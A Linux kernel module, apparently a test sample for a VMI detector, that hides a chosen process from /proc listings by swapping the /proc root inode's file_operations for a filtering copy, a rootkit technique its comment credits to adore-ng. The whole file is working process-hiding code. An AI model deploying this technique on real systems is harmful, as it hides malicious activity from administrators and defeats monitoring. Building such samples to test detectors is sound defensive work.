// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_fop: hides a process from /proc the way adore-ng does. The /proc root inode's
 * file_operations (the kernel's proc_root_operations) are copied into the module, the
 * copy's iterate_shared replaced by a filter that drops the entry named `pid`, and
 * the inode's i_fop pointed at the copy: every later open of /proc lists the
 * directory through the module. /proc/PID itself still opens (lookup is untouched).
 * The filter counts the entries it dropped (`hits`); the old i_fop is restored on
 * unload. The module stays on the modules list.
 */
#include <linux/module.h>
#include <linux/fs.h>
#include <linux/namei.h>
#include <linux/string.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process to hide from /proc's listing");

static unsigned long hits;
module_param(hits, ulong, 0444);
MODULE_PARM_DESC(hits, "how many entries the filter dropped");

static char hidden[16];
static struct inode *proc_root;
static const struct file_operations *orig_fops;
static struct file_operations vmi_fops;

/* A dir_context whose actor filters, in front of the caller's. */
struct vmi_ctx {
	struct dir_context ctx;
	struct dir_context *orig;
};

static bool vmi_filldir(struct dir_context *c, const char *name, int len, loff_t off,
			u64 ino, unsigned int type)
{
	struct vmi_ctx *v = container_of(c, struct vmi_ctx, ctx);

	if (len == strlen(hidden) && !memcmp(name, hidden, len)) {
		hits++;
		return true;
	}
	v->orig->pos = c->pos;
	return v->orig->actor(v->orig, name, len, off, ino, type);
}

static int vmi_iterate(struct file *file, struct dir_context *ctx)
{
	struct vmi_ctx v = { .ctx = { .actor = vmi_filldir, .pos = ctx->pos }, .orig = ctx };
	int ret = orig_fops->iterate_shared(file, &v.ctx);

	ctx->pos = v.ctx.pos;
	return ret;
}

static int __init vmi_fop_init(void)
{
	struct path path;
	int err = kern_path("/proc", LOOKUP_FOLLOW, &path);

	if (err) {
		pr_err("vmi_fop: /proc not found (%d)\n", err);
		return err;
	}
	proc_root = d_inode(path.dentry);
	ihold(proc_root);
	path_put(&path);
	orig_fops = proc_root->i_fop;
	if (!orig_fops || !orig_fops->iterate_shared) {
		iput(proc_root);
		pr_err("vmi_fop: /proc has no iterate_shared\n");
		return -ENOENT;
	}
	snprintf(hidden, sizeof(hidden), "%d", pid);
	vmi_fops = *orig_fops;
	vmi_fops.iterate_shared = vmi_iterate;
	WRITE_ONCE(proc_root->i_fop, &vmi_fops);
	pr_info("vmi_fop: /proc i_fop %px -> %px, hiding %s\n", orig_fops, &vmi_fops, hidden);
	return 0;
}

static void __exit vmi_fop_exit(void)
{
	WRITE_ONCE(proc_root->i_fop, orig_fops);
	iput(proc_root);
}

module_init(vmi_fop_init);
module_exit(vmi_fop_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi detector test: hide a process from /proc through the root inode's i_fop");
